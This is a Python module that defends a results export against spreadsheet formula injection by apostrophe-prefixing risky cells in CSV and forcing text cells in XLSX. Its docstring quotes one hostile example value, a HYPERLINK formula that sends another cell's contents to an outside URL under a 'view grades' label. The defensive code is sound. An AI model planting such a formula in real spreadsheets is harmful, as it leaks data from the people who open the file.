"""Cells that spreadsheets show as text, never run: the export's defence against formula injection.

A roster name such as ``=HYPERLINK("http://…/?leak="&B3,"点击查看成绩")`` would otherwise
become a live formula when the office opens the results. Following OWASP's CSV-injection
guidance, a text cell starting with ``= + - @``, tab or CR gets a leading apostrophe in CSV
(Excel and LibreOffice then show it as text). In XLSX the cell is stored as a string (never as a
formula), and marked "quote prefix" so that editing it in Excel keeps it text. Control
characters, which XLSX cannot hold and terminals obey, are shown as visible escapes.
"""

from __future__ import annotations

from typing import Any

from bot.core.text_safety import printable

# What makes a spreadsheet read a cell as a formula or a DDE call (OWASP, CSV Injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _clean(text: str) -> str:
    # Tab and line ends stay: only at the start do they matter, and the apostrophe handles that.
    return printable(text, one_line=False)


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: numbers as they are, text cleaned and defused."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return value
    text = _clean(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def append_row(sheet, values: list[Any]) -> None:
    """Append ``values`` to an openpyxl worksheet, every text cell stored as text."""
    sheet.append([_clean(v) if isinstance(v, str) else v for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl makes "=…" a formula; a string it shall stay
            if cell.value.startswith(FORMULA_START):
                cell.quotePrefix = True
